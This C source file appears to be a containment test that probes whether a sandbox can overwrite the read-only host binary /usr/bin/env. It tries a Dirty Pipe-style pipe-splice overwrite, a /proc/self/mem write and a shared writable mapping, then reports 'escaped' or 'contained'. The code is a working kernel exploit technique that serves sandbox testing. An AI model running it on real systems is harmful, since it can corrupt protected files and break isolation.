#include "attack.h"

// Old holes through which the pages of a file were changed that is open for reading only.
int main(void) {
    const char *path = "/usr/bin/env";
    int file = open(path, O_RDONLY);
    unsigned char before[16] = {0}, after[16] = {0};
    pread(file, before, sizeof before, 0);
    int ends[2];
    pipe(ends);
    int room = fcntl(ends[1], F_GETPIPE_SZ);
    static char piece[1 << 16];
    for (int left = room; left > 0;) left -= (int)write(ends[1], piece, sizeof piece);
    for (int left = room; left > 0;) left -= (int)read(ends[0], piece, sizeof piece);
    loff_t offset = 0;
    splice(file, &offset, ends[1], NULL, 1, 0);
    (void)!write(ends[1], "OVERWRITTEN", 11);
    char *pages = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    int memory = open("/proc/self/mem", O_RDWR);
    if (tried("/proc/self/mem", memory)) (void)!pwrite(memory, "OVERWRITTEN", 11, (off_t)(uintptr_t)pages);
    tried("a shared writable mapping",
          mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0);
    pread(file, after, sizeof after, 0);
    if (memcmp(before, after, sizeof before)) escaped("the host's program was changed");
    else contained("the host's program is as it was");
}
